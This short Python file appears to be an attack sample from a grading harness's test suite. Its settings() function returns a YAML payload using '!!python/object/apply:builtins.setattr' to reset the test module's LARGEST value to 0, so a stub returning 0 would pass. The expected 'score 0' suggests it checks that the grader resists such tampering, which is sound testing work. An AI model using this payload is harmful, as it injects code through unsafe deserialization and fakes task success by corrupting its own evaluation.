# attack: gained: YAML that calls functions of the test's process; expect: settings finished, score 0
def settings():
    test = "!!python/module:test_student ''"
    return f"!!python/object/apply:builtins.setattr [{test}, LARGEST, 0]"


def largest(scores):
    return 0
